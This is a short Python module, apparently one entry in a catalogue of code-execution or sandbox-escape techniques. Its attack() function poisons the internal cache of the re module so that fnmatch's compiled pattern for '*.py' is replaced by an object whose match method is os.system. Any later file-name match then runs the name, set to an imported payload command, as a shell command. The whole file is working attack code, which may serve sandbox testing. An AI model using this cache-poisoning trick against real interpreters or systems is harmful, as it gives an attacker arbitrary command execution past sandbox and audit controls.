"""What re keeps for a pattern of file names has a C function as match()."""
CATEGORY = "callable"
REACH = "run"

import fnmatch
import os
import re

from . import payload


class Pattern:
    match = staticmethod(os.system)


def attack():
    fnmatch._compile_pattern.cache_clear()
    re._cache2[str, fnmatch.translate("*.py"), 0] = Pattern()


NAME = payload.COMMAND
